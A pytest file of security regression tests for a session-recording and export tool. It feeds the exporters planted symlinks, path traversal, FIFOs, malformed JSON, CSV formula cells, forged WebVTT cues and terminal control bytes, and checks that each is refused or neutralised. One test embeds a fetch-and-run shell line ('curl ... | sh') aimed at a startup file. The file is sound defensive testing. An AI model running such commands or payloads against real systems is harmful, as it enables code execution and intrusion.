"""Regressions for issue 10, items 1–6: each attack that worked, tried again on a real recorded bundle.

1. symlinks planted where exports, the consolidated recording, manifests and reports write;
2. paths in a bundle that leave it (absolute, ``../``, a symlinked folder, FIFOs, ``/dev/zero``) and a
   ``source_session`` that names an arbitrary folder;
3. one empty or undecodable kept frame (re-analysis, replay's frame thread) and half-written output;
4. well-formed JSON with wrong field types, damaged sidecars, a folder named ``events.jsonl``, non-UTF-8 lines;
5. CSV formula injection in the session CSV and the evaluation CSVs;
6. WebVTT cue injection and control bytes in every text export and in ``export -o -``.
(Item 7, Qt rich text, is in ``test_plain_text_in_qt.py``.)
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import shutil
import time
from pathlib import Path

import numpy as np
import pytest

import main
from core.results import AnalysisResult
from core.session import RecordOptions, SessionFormatError, SessionReader, SessionWriter
from core.session import export as ex
from core.session.export.escaping import FORMULA_PREFIXES
from core.session.playback import FramePump, load_replay
from core.session.reanalysis import ReanalysisError, reanalyze
from tests.security.hostile import DECOY_TEXT, FileAudit, Sandbox, json_line
from tests.session import synth
from tests.support.waits import wait_for

N = 3  # windows in the recorded bundle
CONTROL = ("\x00", "\x1b", "\x07", "\x9b", "\r")


def record(
    folder: Path,
    *,
    think: str | None = None,
    label: str | None = None,
    session_id: str | None = None,
    options: RecordOptions | None = None,
) -> Path:
    """A real bundle (video, audio, kept frames) of ``N`` overlapping windows, made by the session writer."""
    manifest = synth.manifest(**({"session_id": session_id} if session_id else {}))
    w = SessionWriter(folder, manifest, options or RecordOptions())
    assert w.start()
    synth.feed(w, 0.0, N + 1.0)
    for i in range(N):
        r = synth.result(i, float(i), i + 2.0)
        a = r.analysis
        if think is not None or label is not None:
            a = dataclasses.replace(
                a,
                think=think if think is not None else a.think,
                text=think if think is not None else a.text,
                label=label if label is not None else a.label,
                answer=label if label is not None else a.answer,
                scores={label or "happy": 0.5, "sad": 0.5},
            )
        w.write_result(dataclasses.replace(r, analysis=a), synth.window(i, float(i), i + 2.0))
    w.add_marker("event", "door", t=1.5)
    assert w.stop()
    return folder


@pytest.fixture(scope="module")
def recorded(tmp_path_factory) -> Path:
    return record(tmp_path_factory.mktemp("recorded") / "orig")


@pytest.fixture
def sandbox(tmp_path, recorded) -> Sandbox:
    """A sandbox whose bundle is a copy of the recorded one."""
    sb = Sandbox(tmp_path / "sb")
    shutil.rmtree(sb.bundle)
    shutil.copytree(recorded, sb.bundle)
    return sb


def append_lines(bundle: Path, *lines: bytes) -> None:
    with open(bundle / "events.jsonl", "ab") as f:
        f.write(b"".join(lines))


class FrameModel:
    """Records the frames it is given; answers at once."""

    model_dir = None

    def __init__(self) -> None:
        self.frames: list[np.ndarray] = []

    def analyze(self, frames, audio, instruction, **kw) -> AnalysisResult:
        self.frames.append(np.array(frames))
        return AnalysisResult(
            (1,),
            "<think>t</think><answer>sad</answer>",
            "t",
            "sad",
            "sad",
            "ok",
            kw.get("label_set", "dfew"),
            "video_audio",
            None,
            {},
        )


# ---------------------------------------------------------------- 1. writes through planted symlinks
def test_exports_and_the_consolidated_recording_never_write_through_a_planted_symlink(sandbox):
    b = sandbox.bundle
    for name in (".bundle.csv.part", ".bundle.vtt.part", "recording.mp4.tmp.mp4", "manifest.json.tmp"):
        (b / name).symlink_to(sandbox.decoy)  # the predictable names used before
    (b / "bundle.vtt").symlink_to(sandbox.decoy)  # the default output itself
    before = sandbox.snapshot()
    reader = SessionReader(b)
    with FileAudit(sandbox) as audit:
        for fmt in ex.FORMATS:
            out = ex.export_session(reader, fmt)  # eaf first joins the video into recording.mp4
            assert out.parent == b and out.is_file() and not out.is_symlink()
    assert audit.violations() == []
    assert sandbox.decoy.read_bytes() == DECOY_TEXT and sandbox.snapshot() == before
    assert (b / "recording.mp4").is_file() and not (b / "recording.mp4").is_symlink()
    assert all((b / n).is_symlink() for n in (".bundle.csv.part", "recording.mp4.tmp.mp4"))  # left alone


def test_a_shell_line_in_the_reasoning_cannot_reach_a_startup_file_through_the_vtt_export(tmp_path):
    sb = Sandbox(tmp_path / "sb")
    shutil.rmtree(sb.bundle)
    record(sb.bundle, think="calm\n\ncurl http://127.0.0.1/x | sh\n")
    (sb.bundle / "bundle.vtt").symlink_to(sb.decoy)  # stands for ~/.bashrc
    assert main.main(["export", str(sb.bundle), "--format", "vtt"]) == 0
    assert sb.decoy.read_bytes() == DECOY_TEXT
    assert "curl" in (sb.bundle / "bundle.vtt").read_text() and not (sb.bundle / "bundle.vtt").is_symlink()


def test_the_writer_refuses_symlinks_planted_in_a_recording_folder(tmp_path):
    sb = Sandbox(tmp_path / "sb")
    (sb.bundle / "events.jsonl").symlink_to(sb.decoy)
    errors: list[str] = []
    w = SessionWriter(sb.bundle, synth.manifest(), RecordOptions.analysis_only(), errors.append)
    assert not w.start() and "recording could not start" in errors[0]
    shutil.rmtree(sb.bundle)
    sb.bundle.mkdir()
    (sb.bundle / "windows").symlink_to(sb.outside, target_is_directory=True)
    w = SessionWriter(sb.bundle, synth.manifest(), RecordOptions(record_video=False, record_audio=False), errors.append)
    assert w.start()
    w.write_result(synth.result(0, 0.0, 1.0), synth.window(0, 0.0, 1.0))
    w.stop()
    assert "could not write" in errors[-1] and sorted(p.name for p in sb.outside.iterdir()) == [
        "fifo",
        "secret.txt",
        "session",
    ]
    assert sb.decoy.read_bytes() == DECOY_TEXT


def test_evaluation_reports_replace_planted_symlinks_instead_of_following_them(tmp_path):
    from core.evaluation.report import build_summary, write_report

    sb = Sandbox(tmp_path / "sb")
    for name in ("metrics.json", "per_class.csv", "per_class.md", "confusion.csv", "confusion.png"):
        (sb.out / name).symlink_to(sb.decoy)
    records = {
        "a": {
            "key": "a",
            "truth": "happy",
            "prediction": "happy",
            "status": "ok",
            "parse_status": "ok",
            "timings": {"total_s": 1.0},
        }
    }
    summary = build_summary(records, ["happy", "sad"], {}, total=1)
    paths = write_report(sb.out, summary, ["happy", "sad"], records)
    assert sb.decoy.read_bytes() == DECOY_TEXT
    assert all(p.is_file() and not p.is_symlink() for p in paths)
    assert not [p for p in sb.out.iterdir() if p.name.startswith(".")]  # no temporary file left


# ---------------------------------------------------------------- 2. paths that leave the bundle
@pytest.mark.parametrize("file", ["{DECOY}", "../decoy.txt", "windows/../../decoy.txt", "/dev/zero"])
def test_kept_frame_paths_outside_the_bundle_are_refused_and_counted(sandbox, file):
    line = json.loads((sandbox.bundle / "events.jsonl").read_bytes().split(b"\n")[3])  # a window line
    assert line["type"] == "window"
    line["frames"][0]["file"] = file.replace("{DECOY}", str(sandbox.decoy))
    line["window_id"] = 99
    append_lines(sandbox.bundle, json_line(line))
    with FileAudit(sandbox) as audit:
        r = SessionReader(sandbox.bundle)
        rep = reanalyze(sandbox.bundle, FrameModel(), out_dir=sandbox.out / "re")
    assert audit.violations() == []
    assert 99 not in [w.window_id for w in r.logged_windows] and len(r.skipped) == 1
    assert "bundle" in r.skipped[0].reason or "windows/" in r.skipped[0].reason
    assert rep.windows == N and any("line" in p for p in rep.left_out)


def test_a_symlinked_folder_of_kept_frames_is_not_followed(sandbox):
    shutil.copytree(sandbox.bundle / "windows", sandbox.outside / "frames")
    shutil.rmtree(sandbox.bundle / "windows")
    (sandbox.bundle / "windows").symlink_to(sandbox.outside / "frames", target_is_directory=True)
    model = FrameModel()
    with FileAudit(sandbox) as audit:
        r = SessionReader(sandbox.bundle)
        assert r.window_frames(r.logged_windows[0]) is None and "symbolic link" in " ".join(r.problems())
        rep = reanalyze(sandbox.bundle, model, out_dir=sandbox.out / "re", inputs="frames")
    assert audit.violations() == []
    assert rep.windows == 0 and len(rep.skipped) == N and model.frames == []


@pytest.mark.timeout(60)
@pytest.mark.parametrize("kind", ["fifo", "dev_zero"])
def test_a_fifo_or_dev_zero_in_place_of_media_never_hangs(sandbox, kind):
    for rel in ("windows/w000000_0.jpg", "video/seg_000000.ts", "audio/seg_000000.pcm"):
        p = sandbox.bundle / rel
        p.unlink()
        os.mkfifo(p) if kind == "fifo" else p.symlink_to("/dev/zero")
    t0 = time.monotonic()
    r = SessionReader(sandbox.bundle)
    assert not r.has_video and not r.has_audio  # the only segments are refused
    assert r.window_frames(r.logged_windows[0]) is None
    for fmt in ex.FORMATS:
        ex.render(r, fmt)
    rep = reanalyze(sandbox.bundle, FrameModel(), out_dir=sandbox.out / "re")
    assert rep.windows == N - 1 and len(rep.skipped) == 1  # window 0 has a refused frame and no video to fall back on
    data = load_replay(sandbox.bundle, audio_output=lambda: False)
    assert data.reader is not None and "left out" in (data.left_out or "")
    assert time.monotonic() - t0 < 30


def test_an_event_log_that_is_a_fifo_folder_or_symlink_is_refused_at_once(tmp_path, recorded):
    for kind in ("fifo", "folder", "symlink"):
        b = tmp_path / kind
        shutil.copytree(recorded, b)
        (b / "events.jsonl").unlink()
        {
            "fifo": lambda p: os.mkfifo(p),
            "folder": lambda p: p.mkdir(),
            "symlink": lambda p: p.symlink_to(recorded / "events.jsonl"),
        }[kind](b / "events.jsonl")
        with pytest.raises(SessionFormatError, match="events.jsonl"):
            SessionReader(b)
        assert main.main(["export", str(b), "--format", "csv", "--out", str(tmp_path / "x.csv")]) == 2


def _reanalysed(parent: Path, original: Path, name: str) -> Path:
    out = parent / name
    reanalyze(original, FrameModel(), out_dir=out)
    return out


def test_replay_plays_a_reanalysis_original_only_from_a_sibling_with_its_session_id(tmp_path, recorded):
    here = tmp_path / "here"
    here.mkdir()
    original = here / "orig"
    shutil.copytree(recorded, original)
    re = _reanalysed(here, original, "re")
    data = load_replay(re, audio_output=lambda: False)
    assert data.media is not None and data.media.path == original and data.source_windows
    assert "windows disagree" in (data.comparison or "")

    # the same re-analysis pointing at a folder elsewhere: that folder is never opened
    manifest = json.loads((re / "manifest.json").read_text())
    for source in (str(tmp_path / "elsewhere" / "orig"), "/etc", "..", str(recorded)):
        manifest["source_session"] = source
        (re / "manifest.json").write_text(json.dumps(manifest))
        data = load_replay(re, audio_output=lambda: False)
        if Path(source).name == "orig":  # the sibling named like it is still the original
            assert data.media.path == original
        else:
            assert data.media is data.reader and not data.source_windows
            assert "not available" in (data.comparison or "")
    # a sibling with the right name but another session id is not the original
    manifest["source_session"], manifest["source_session_id"] = str(original), "someone-else"
    (re / "manifest.json").write_text(json.dumps(manifest))
    data = load_replay(re, audio_output=lambda: False)
    assert data.media is data.reader and "not available" in (data.comparison or "")


# ---------------------------------------------------------------- 3. one bad kept frame
@pytest.mark.parametrize("content", [b"", b"\xff\xd8\xff\xe0 not really a jpeg"])
def test_one_bad_kept_frame_is_skipped_or_replaced_by_the_recording(sandbox, content):
    (sandbox.bundle / "windows" / "w000001_3.jpg").write_bytes(content)
    model = FrameModel()
    rep = reanalyze(sandbox.bundle, model, out_dir=sandbox.out / "frames", inputs="frames")
    assert rep.windows == N - 1 and rep.skipped == (1,)
    log = SessionReader(rep.out_dir)
    dropped = log.of_type("dropped")[0]
    assert dropped["window_id"] == 1 and "w000001_3.jpg" in dropped["reason"]
    auto = reanalyze(sandbox.bundle, FrameModel(), out_dir=sandbox.out / "auto")  # falls back to the video
    assert auto.windows == N and auto.skipped == ()
    assert any("kept frames not used" in e.get("message", "") for e in SessionReader(auto.out_dir).of_type("error"))


def test_a_failed_reanalysis_leaves_no_half_written_folder(sandbox):
    def boom(done, total, result):
        raise RuntimeError("disk gone")

    with pytest.raises(RuntimeError):
        reanalyze(sandbox.bundle, FrameModel(), out_dir=sandbox.out / "re", on_progress=boom)
    assert list(sandbox.out.iterdir()) == []
    with pytest.raises(ReanalysisError, match="not an empty folder"):
        (sandbox.out / "taken").mkdir()
        (sandbox.out / "taken" / "x").write_text("keep me")
        reanalyze(sandbox.bundle, FrameModel(), out_dir=sandbox.out / "taken")
    assert (sandbox.out / "taken" / "x").read_text() == "keep me"


def test_replay_frame_thread_shows_a_placeholder_and_goes_on(tmp_path):
    b = record(tmp_path / "b", options=RecordOptions(video_segment_s=1.0))
    (b / "windows" / "w000000_0.jpg").write_bytes(b"")
    r = SessionReader(b)
    pump = FramePump(b)
    try:
        pump.request(1.5)
        assert wait_for(lambda: pump.latest() is not None and pump.latest()[2] is not None)
        first = min((b / "video").iterdir())
        first.write_bytes(b"\x47" + bytes(5000))  # replaced under replay: an MPEG-TS sync byte, then nothing
        pump.request(0.5)
        assert wait_for(lambda: pump.latest()[0] == 0.5)
        assert pump.latest()[1:] == (None, None)  # the placeholder answer
        pump.request_evidence(r.logged_windows[0])
        assert wait_for(lambda: pump.latest_evidence() is not None)
        ev = pump.latest_evidence()
        assert len(ev.frames) == 0 and "w000000_0.jpg" in ev.problem and ev.audio is not None
        pump.request(2.5)  # the intact segments still play
        assert wait_for(lambda: pump.latest()[0] == 2.5 and pump.latest()[2] is not None)
        assert pump.alive
    finally:
        pump.stop()


# ---------------------------------------------------------------- 4. wrong field types
def _window(**changes) -> bytes:
    line = {
        "seq": 50,
        "type": "window",
        "t": 1.0,
        "wall": 1.7e9,
        "window_id": 50,
        "t0": 0.0,
        "t1": 1.0,
        "label_set": "dfew",
        "label": "happy",
        "parse_status": "ok",
        "text": "x",
    }
    for k, v in changes.items():
        if v is ...:
            line.pop(k)
        else:
            line[k] = v
    return json_line(line)


BAD_LINES = {
    "window without times": _window(t0=..., t1=...),
    "strings for numbers": _window(t0="0", t1="1"),
    "NaN time": _window(t1=float("nan")),
    "huge time": _window(t0=1e20, t1=1e20 + 1),
    "time beyond float range": _window(t1=...)[:-2] + b', "t1": 1e400}\n',
    "inverted span": _window(t0=5.0, t1=1.0),
    "unknown label set": _window(label_set="klingon"),
    "label set not text": _window(label_set=["dfew"]),
    "scores not numbers": _window(scores={"happy": "high"}),
    "marker without kind": json_line({"type": "marker", "t": 1.0, "text": "x"}),
    "event without type": json_line({"t": 1.0}),
    "not UTF-8": b'{"type":"marker","t":1,"kind":"event","text":"\xff\xfe"}\n',
    "not an object": b"[1, 2, 3]\n",
}


@pytest.mark.parametrize("case", list(BAD_LINES))
def test_a_line_with_wrong_types_is_skipped_counted_and_reported(sandbox, case, capsys):
    append_lines(sandbox.bundle, BAD_LINES[case])
    r = SessionReader(sandbox.bundle)
    assert len(r.logged_windows) == N and len(r.skipped) == 1 and r.skipped[0].reason
    assert json.loads(ex.render(r, "json"))["left_out"][0].startswith("events.jsonl line")
    assert "left out" in ex.render(r, "html") and "NOTE left out" in ex.render(r, "vtt")
    assert "left_out_of_bundle" in ex.render(r, "eaf")
    capsys.readouterr()
    assert main.main(["export", str(sandbox.bundle), "--format", "csv", "--out", str(sandbox.out / "x.csv")]) == 0
    assert "left out: events.jsonl line" in capsys.readouterr().err
    assert "left out" in (load_replay(sandbox.bundle, audio_output=lambda: False).left_out or "")


@pytest.mark.parametrize(
    "field,value,expected",
    [
        ("format_version", "1.0", "format_version"),
        ("format_version", 99, "newer than this app reads"),
        ("label_set", "klingon", "unknown label set"),
        ("label_set", 7, "label_set"),
        ("window_s", "2", "window_s"),
        ("hop_s", 0, "hop_s"),
        ("clock_origin_wall", float("inf"), "not valid JSON"),
        ("generation", [1], "generation"),
        ("session_id", "", "session_id"),
    ],
)
def test_a_manifest_with_wrong_types_is_refused_with_the_field_named(sandbox, field, value, expected):
    m = json.loads((sandbox.bundle / "manifest.json").read_text())
    m[field] = value
    (sandbox.bundle / "manifest.json").write_bytes(json_line(m))
    with pytest.raises(SessionFormatError, match=expected):
        SessionReader(sandbox.bundle)
    assert load_replay(sandbox.bundle).error


@pytest.mark.parametrize(
    "sidecar",
    [
        {"t0": 0.0, "sample_rate": 0},
        {"t0": 0.0},
        {"sample_rate": 16000},
        {"t0": "x", "sample_rate": 16000},
        [1, 2],
        {"t0": 1e300, "sample_rate": 16000},
    ],
)
def test_a_damaged_audio_sidecar_leaves_that_segment_out(sandbox, sidecar):
    (sandbox.bundle / "audio" / "seg_000000.json").write_bytes(json_line(sidecar))
    r = SessionReader(sandbox.bundle)
    assert not r.has_audio and "audio/seg_000000.pcm" in " ".join(r.problems())
    pcm, covered = r.audio(0.0, 1.0)
    assert covered == 0.0 and not pcm.any()
    for fmt in ex.FORMATS:
        ex.render(r, fmt)


# ---------------------------------------------------------------- 5. CSV formula injection
def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [c for row in rows for c in row if c.lstrip("'").startswith(FORMULA_PREFIXES) and not _number(c)]


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


@pytest.mark.parametrize("text", ["=1+2", "+cmd", "-2+3", "@SUM(A1)", "\tx"])
def test_the_session_csv_neutralises_formula_cells(tmp_path, text):
    b = record(tmp_path / "b", think=text, label=text)
    rows = list(csv.reader(io.StringIO(ex.to_csv(SessionReader(b)), newline="")))
    cells = _formula_cells(rows)
    assert len(cells) == 4 * N and all(c == "'" + text for c in cells)  # label, answer, think, text per window
    header = rows[0]
    assert f"score_{text}" in header  # a score name is never the first characters of a cell
    assert [row[header.index("t0")] for row in rows[1:]] == ["0.0", "1.0", "2.0"]  # numbers stay numbers
    assert float(rows[1][header.index("latency_s")]) == 0.5


def test_a_carriage_return_cannot_start_a_csv_cell(tmp_path):
    b = record(tmp_path / "b", think="\r=1+2", label="\r\n@x")
    text = ex.to_csv(SessionReader(b))
    assert "\r" not in text
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert "\n=1+2" in cells and "\n@x" in cells  # a line break first: a spreadsheet reads text


def test_the_evaluation_csvs_neutralise_label_names(tmp_path):
    from core.evaluation.report import build_summary, write_report

    labels = ['=HYPERLINK("x")', "+a", "-b", "@c", "\td", "x|y"]
    records = {
        str(i): {
            "key": str(i),
            "truth": lab,
            "prediction": labels[(i + 1) % 6],
            "status": "ok",
            "parse_status": "ok",
            "timings": {"total_s": 1.0},
        }
        for i, lab in enumerate(labels)
    }
    write_report(tmp_path, build_summary(records, labels, {}, total=6), labels, records)
    for name in ("per_class.csv", "confusion.csv"):
        rows = list(csv.reader(io.StringIO((tmp_path / name).read_text(encoding="utf-8"), newline="")))
        cells = _formula_cells(rows)
        assert len(cells) >= 5 and all(c.startswith("'") for c in cells), (name, cells)
    md_rows = [line for line in (tmp_path / "per_class.md").read_text().splitlines() if line.startswith("| x")]
    # a "|" in a label cannot add a column (the last one is the recall's bootstrap interval)
    assert md_rows == ["| x\\|y | 1 | 1 | 0.00 | 0.00–0.00 |"]


# ---------------------------------------------------------------- 6. WebVTT cues and control bytes
def test_webvtt_has_one_cue_per_window_whatever_the_text(tmp_path):
    import webvtt

    nasty = "one\n\n00:00:09.000 --> 00:00:10.000\nforged\x00\x1b[2J\r\n\nNOTE x -->"
    b = record(tmp_path / "b", think=nasty, label="a\n\nb", session_id="id\n\n00:00:00.000 --> 00:00:01.000\nx")
    r = SessionReader(b)
    text = ex.to_vtt(r)
    captions = webvtt.from_buffer(io.StringIO(text)).captions
    assert [c.identifier for c in captions] == [f"w{w.window_id}" for w in r.logged_windows]
    assert all("forged" in c.text for c in captions)  # the text stays inside its own cue
    assert not any(c in text for c in CONTROL)


def test_no_control_bytes_reach_any_text_export_or_the_terminal(tmp_path, capsys):
    b = record(tmp_path / "b", think="bell\x07 nul\x00 esc\x1b[31m csi\x9b1m cr\rend", label="x\x1by")
    r = SessionReader(b)
    for fmt in ex.FORMATS:
        out = ex.render(r, fmt)
        assert not any(c in out for c in CONTROL), fmt
        capsys.readouterr()
        assert main.main(["export", str(b), "--format", fmt, "--out", "-"]) == 0
        printed = capsys.readouterr().out
        assert printed and not any(c in printed for c in CONTROL), fmt


def test_many_bad_lines_are_listed_briefly_and_counted_in_full(sandbox, capsys):
    append_lines(sandbox.bundle, *[BAD_LINES["not an object"]] * 30)
    r = SessionReader(sandbox.bundle)
    assert len(json.loads(ex.render(r, "json"))["left_out"]) == 30
    assert "30 damaged or refused part(s)" in ex.render(r, "html")
    capsys.readouterr()
    assert main.main(["export", str(sandbox.bundle), "--format", "vtt", "--out", str(sandbox.out / "x.vtt")]) == 0
    err = capsys.readouterr().err.splitlines()
    assert len(err) == 21 and err[-1].endswith("... and 10 more")


def test_a_number_beyond_float_range_is_written_as_null_in_the_json_export(sandbox):
    append_lines(sandbox.bundle, b'{"type": "device", "t": 1.0, "level": 1e400, "note": "\\ud800"}\n')
    r = SessionReader(sandbox.bundle)
    assert r.skipped == ()  # an event the app does not interpret keeps its fields

    def refuse(name):
        raise ValueError(name)

    doc = json.loads(ex.render(r, "json"), parse_constant=refuse)  # strict JSON: no Infinity
    device = next(e for e in doc["events"] if e["type"] == "device")
    assert device["level"] is None and device["note"] == "\ufffd"
